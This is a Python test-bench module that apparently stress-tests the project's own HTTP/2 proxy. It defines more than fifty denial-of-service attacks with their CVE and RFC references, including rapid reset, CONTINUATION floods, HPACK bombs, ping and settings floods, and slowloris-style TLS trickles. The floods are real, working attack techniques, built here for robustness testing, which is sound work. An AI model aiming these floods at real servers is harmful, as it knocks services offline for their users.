"""The attacks of one connection at a time: floods of frames and of header blocks. `ATTACKS` has all there are.

    python -m tests.bench.attack_kinds NAME HOST:PORT SECONDS      the attacking process

Prints "ready", begins at a line on standard input and ends with a line of JSON: sent, connections, endings.
"""

import json
import resource
import sys
from collections.abc import Callable
from dataclasses import dataclass

from proxy.http2 import frames

from . import attack_costly, attack_shake, attack_slow
from .attack_wire import RECORD, REQUEST, Attack, flood, headers, ids, literal, loopback, opening

_CANCEL = 8
_STREAMS = 100  # of a chunk


@dataclass(frozen=True)
class Kind:
    """An attack: what it does in a sentence, what it is known as, the unit of its rate."""

    name: str
    what: str
    reference: str
    unit: str
    run: Callable[[Attack], None]


# -- streams opened and reset


def rapid_reset(attack: Attack) -> None:
    _streams(attack, lambda i: headers(i) + frames.rst_stream(i, _CANCEL))


def rapid_reset_unique(attack: Attack) -> None:
    def reset(i: int) -> bytes:
        return headers(i, REQUEST + literal(b"x-request-id", b"%020d" % i)) + frames.rst_stream(i, _CANCEL)

    _streams(attack, reset)


def reset_zero_update(attack: Attack) -> None:
    _streams(attack, lambda i: headers(i) + frames.window_update(i, 0))


def reset_late_data(attack: Attack) -> None:
    _streams(attack, lambda i: headers(i, end=True) + frames.frame(frames.DATA, 0, i, b"late"))


def reset_overflow(attack: Attack) -> None:
    _streams(attack, lambda i: headers(i) + frames.window_update(i, frames.MAX_WINDOW))


def reset_priority(attack: Attack) -> None:
    _streams(attack, lambda i: headers(i) + frames.frame(frames.PRIORITY, 0, i, bytes(4)))


def reset_length(attack: Attack) -> None:
    block = REQUEST + literal(b"content-length", b"1")
    _streams(attack, lambda i: headers(i, block) + frames.frame(frames.DATA, frames.END_STREAM, i, b"two"))


def reset_malformed(attack: Attack) -> None:
    block = REQUEST + literal(b"connection", b"close")
    _streams(attack, lambda i: headers(i, block))


def too_many_streams(attack: Attack) -> None:
    _streams(attack, headers)


def _streams(attack: Attack, one: Callable[[int], bytes]) -> None:
    flood(attack, lambda number: b"".join([one(i) for i in ids(number, _STREAMS)]), _STREAMS)


# -- CONTINUATION


def continuation(attack: Attack) -> None:
    _continuations(attack, literal(b"x", b"a" * 126) * 126)


def continuation_small(attack: Attack) -> None:
    _continuations(attack, literal(b"x", b"a"))


def continuation_empty(attack: Attack) -> None:
    _continuations(attack, b"")


def _continuations(attack: Attack, fragment: bytes) -> None:
    start = opening() + frames.frame(frames.HEADERS, 0, 1, REQUEST)
    _repeat(attack, frames.frame(frames.CONTINUATION, 0, 1, fragment), start, whole=False)


# -- other frames


def ping(attack: Attack) -> None:
    _repeat(attack, frames.frame(frames.PING, 0, 0, b"pingping"))


def ping_unread(attack: Attack) -> None:
    _repeat(attack, frames.frame(frames.PING, 0, 0, b"pingping"), read=False)


def settings(attack: Attack) -> None:
    _repeat(attack, frames.settings({}))


def settings_window(attack: Attack) -> None:
    start = opening() + b"".join(headers(i) for i in ids(0, 90))
    _repeat(attack, frames.settings({4: 0}) + frames.settings({4: 65_535}), start, units=2)


def settings_table(attack: Attack) -> None:
    _repeat(attack, frames.settings({1: 0}) + frames.settings({1: 4096}), units=2)


def window_update(attack: Attack) -> None:
    start = opening({4: 0}) + headers(1)
    _repeat(attack, frames.window_update(0, 1) + frames.window_update(1, 1), start, units=2)


def priority(attack: Attack) -> None:
    _repeat(attack, frames.frame(frames.PRIORITY, 0, 1, bytes(4) + b"\x10"))


def empty_data(attack: Attack) -> None:
    _repeat(attack, frames.frame(frames.DATA, 0, 1, b""), opening() + headers(1))


def padded_data(attack: Attack) -> None:
    _repeat(attack, frames.frame(frames.DATA, frames.PADDED, 1, b"\x00"), opening() + headers(1))


def unknown_frames(attack: Attack) -> None:
    _repeat(attack, frames.frame(0xFA, 0xFF, 0, b""))


def _repeat(
    attack: Attack, data: bytes, start: bytes | None = None, units: int = 1, read: bool = True, whole: bool = True
) -> None:
    times = max(1, RECORD // len(data))
    chunk = data * times
    flood(attack, lambda number: chunk, units * times, start, read, whole)


# -- HPACK

_BOMB = b"b" * 3900
_NEWEST = b"\xbe"  # the newest entry of the dynamic table


def hpack_bomb(attack: Attack) -> None:
    block = REQUEST + _NEWEST * (RECORD - 9 - len(REQUEST))
    start = opening() + headers(1, REQUEST + literal(b"x-bomb", _BOMB, index=True), end=True)
    flood(attack, lambda number: b"".join(headers(i, block, end=True) for i in ids(number, 1)), 1, start)


def hpack_forwarded(attack: Attack) -> None:
    block = REQUEST + _NEWEST * 15  # 59 KiB of fields: below the usual limits
    start = opening() + headers(1, REQUEST + literal(b"x-bomb", _BOMB, index=True), end=True)
    flood(attack, lambda number: b"".join(headers(i, block, end=True) for i in ids(number, 10)), 10, start)


def hpack_thrash(attack: Attack) -> None:
    # 34 bytes of the table for each 5 bytes, so each block fills and evicts it many times over.
    block = REQUEST + b"".join(literal(b"%c" % (97 + i % 26), b"%d" % (i % 10), index=True) for i in range(1700))
    flood(attack, lambda number: b"".join(headers(i, block) + frames.rst_stream(i, _CANCEL) for i in ids(number, 2)), 2)


def hpack_resize(attack: Attack) -> None:
    block = b"\x20\x3f\xe1\x1f" + REQUEST + literal(b"x", b"y" * 40, index=True)  # size 0, then 4096
    _streams(attack, lambda i: headers(i, block) + frames.rst_stream(i, _CANCEL))


def hpack_unique(attack: Attack) -> None:
    """Whole requests, no two of whose blocks are the same: nothing that was decoded before is of use."""
    rest = b"".join(literal(b"x-%03d" % i, b"v" * 20) for i in range(200))

    def chunk(number: int) -> bytes:
        blocks = ((i, REQUEST + literal(b"x-unique", b"%020d" % i) + rest) for i in ids(number, 2))
        return b"".join(headers(i, block, end=True) for i, block in blocks)

    flood(attack, chunk, 2)


# -- the table

_RESET = "CVE-2025-8671"
_ALL = (
    Kind("rapid-reset", "HEADERS and at once RST_STREAM, without end", "CVE-2023-44487", "streams", rapid_reset),
    Kind("rapid-reset-unique", "the same, with a header value of its own on each stream", "CVE-2023-44487", "streams",
         rapid_reset_unique),
    Kind("reset-zero-update", "the server resets: WINDOW_UPDATE of 0 on each new stream", _RESET, "streams",
         reset_zero_update),
    Kind("reset-late-data", "the server resets: DATA after END_STREAM", _RESET, "streams", reset_late_data),
    Kind("reset-overflow", "the server resets: WINDOW_UPDATE beyond 2^31-1", _RESET, "streams", reset_overflow),
    Kind("reset-priority", "the server resets: PRIORITY of 4 bytes", _RESET, "streams", reset_priority),
    Kind("reset-length", "the server resets: more DATA than content-length says", _RESET, "streams", reset_length),
    Kind("reset-malformed", "the server resets: a connection-specific field in each request", _RESET, "streams",
         reset_malformed),
    Kind("too-many-streams", "streams opened far beyond MAX_CONCURRENT_STREAMS", "RFC 9113 5.1.2", "streams",
         too_many_streams),
    Kind("continuation", "a header block that never ends, in frames of 16 KiB", "CVE-2024-27316", "frames",
         continuation),
    Kind("continuation-small", "the same, in frames of 5 bytes", "CVE-2024-27316", "frames", continuation_small),
    Kind("continuation-empty", "the same, in empty frames", "CVE-2019-9518", "frames", continuation_empty),
    Kind("ping", "PING, each of which wants an answer", "CVE-2019-9512", "frames", ping),
    Kind("ping-unread", "PING from a client that reads no answer", "CVE-2019-9512", "frames", ping_unread),
    Kind("settings", "empty SETTINGS, each of which wants an answer", "CVE-2019-9515", "frames", settings),
    Kind("settings-window", "SETTINGS that move the windows of 90 open streams up and down", "RFC 9113 6.9.2",
         "frames", settings_window),
    Kind("settings-table", "SETTINGS that shrink and grow the encoder's table", "RFC 7541 4.2", "frames",
         settings_table),
    Kind("window-update", "WINDOW_UPDATE of 1, for the connection and for a stream", "RFC 9113 10.5", "frames",
         window_update),
    Kind("priority", "PRIORITY for one idle stream", "CVE-2019-9513", "frames", priority),
    Kind("empty-data", "DATA without a byte and without END_STREAM", "CVE-2019-9518", "frames", empty_data),
    Kind("padded-data", "DATA with nothing but a pad length", "RFC 9113 10.5", "frames", padded_data),
    Kind("unknown-frames", "empty frames of an unknown type", "RFC 9113 5.5", "frames", unknown_frames),
    Kind("hpack-bomb", "16 KiB of references to a field of 3.9 KiB: 63 MB decoded", "CVE-2016-1544", "requests",
         hpack_bomb),
    Kind("hpack-forwarded", "15 such references: small to send, 59 KiB to forward", "CVE-2016-1544", "requests",
         hpack_forwarded),
    Kind("hpack-thrash", "1700 insertions into the dynamic table in each block", "RFC 7541 7.3", "requests",
         hpack_thrash),
    Kind("hpack-resize", "the table emptied, resized and filled anew by each block", "RFC 7541 4.2", "streams",
         hpack_resize),
    Kind("hpack-unique", "requests of 200 fields, answered, no two header blocks alike", "RFC 9113 10.5.1", "requests",
         hpack_unique),
    Kind("refused-calls", "HEAD requests, which the proxy answers itself", "RFC 9113 10.5", "requests",
         attack_costly.refused_calls),
    Kind("hpack-references", "the same with 240 references to the static table", "RFC 9113 10.5.1", "requests",
         attack_costly.references),
    Kind("short-data", "DATA of one byte, on one open call", "RFC 9113 10.5", "frames", attack_costly.short_data),
    Kind("data-behind-reset", "the same on a stream that the proxy has reset", "RFC 9113 5.4.2", "frames",
         attack_costly.data_behind_reset),
    Kind("body-of-refused", "the same on a request that the proxy has refused", "RFC 9113 8.1", "frames",
         attack_costly.body_of_refused),
    Kind("deadlines", "calls with a deadline of a millisecond, which end in resets upstream", "CVE-2025-8671",
         "streams", attack_costly.deadlines),
    Kind("zero-window", "answers of 1 MiB asked for and never given a window", "CVE-2019-9517", "answers",
         attack_slow.zero_window),
    Kind("slow-reader", "windows wide open, and a socket that is never read", "CVE-2019-9517", "requests",
         attack_slow.slow_reader),
    Kind("trickle-preface", "200 connections that send the preface a byte at a time", "RFC 9113 3.4", "bytes",
         attack_slow.trickle_preface),
    Kind("trickle-headers", "200 connections that send a header block a byte at a time", "RFC 9113 10.5", "bytes",
         attack_slow.trickle_headers),
    Kind("trickle-body", "200 connections that send a body a byte at a time", "RFC 9113 10.5", "bytes",
         attack_slow.trickle_body),
    Kind("idle-streams", "as many streams as are allowed, opened and left idle, on 40 connections", "RFC 9113 10.5",
         "streams", attack_slow.idle_streams),
    Kind("idle-headers", "the same on 8 connections, with 59 KB of header fields each", "RFC 9113 10.5.1",
         "streams", attack_slow.idle_headers),
    Kind("half-open", "2000 TCP connections that send half of a ClientHello", "slowloris", "connections",
         attack_shake.half_open),
    Kind("stalled-hello", "2000 that send a ClientHello and never answer the server's", "slowloris", "connections",
         attack_shake.stalled),
    Kind("large-hello", "2000 that send a ClientHello of 16 KB, all but its last byte", "RFC 8446 4.1.2",
         "connections", attack_shake.large_hello),
    Kind("trickle-hello", "200 that send a ClientHello a byte at a time", "slowloris", "bytes",
         attack_shake.trickle_hello),
    Kind("shattered-hello", "200 that send a ClientHello in a TLS record for each byte", "RFC 8446 5.1", "records",
         attack_shake.shattered_hello),
    Kind("churn", "full TLS handshakes, 8 at a time, closed behind the preface", "RFC 8446", "connections",
         attack_shake.churn),
    Kind("churn-spread", "the same, from any number of addresses (IPv4)", "RFC 8446", "connections",
         attack_shake.churn_spread),
    Kind("resumption", "the same from one address, resumed with one and the same ticket", "RFC 8446 2.2", "connections",
         attack_shake.resumption),
    Kind("hello-and-gone", "ClientHellos, 8 at a time, from clients that are gone when they are looked at", "RFC 8446",
         "connections", attack_shake.hello_and_gone),
    Kind("garbage", "connections that send something else than TLS, 8 at a time", "slowloris", "connections",
         attack_shake.garbage),
    Kind("plaintext", "connections that send HTTP/2's preface without TLS, 8 at a time", "slowloris", "connections",
         attack_shake.plaintext),
    Kind("connections", "TCP connections, opened and kept without a byte, up to 15000", "slowloris", "connections",
         attack_shake.connections),
    Kind("sessions", "TLS connections with a preface, kept open, up to 15000", "slowloris", "connections",
         attack_shake.sessions),
)  # fmt: skip
ATTACKS = {kind.name: kind for kind in _ALL}


def main() -> int:
    name, target, seconds = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    address = loopback(target)
    print("ready", flush=True)
    sys.stdin.readline()
    attack = Attack(address, float(seconds))
    ATTACKS[name].run(attack)
    print(json.dumps({"sent": attack.sent, "connections": attack.connections, "endings": attack.endings}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
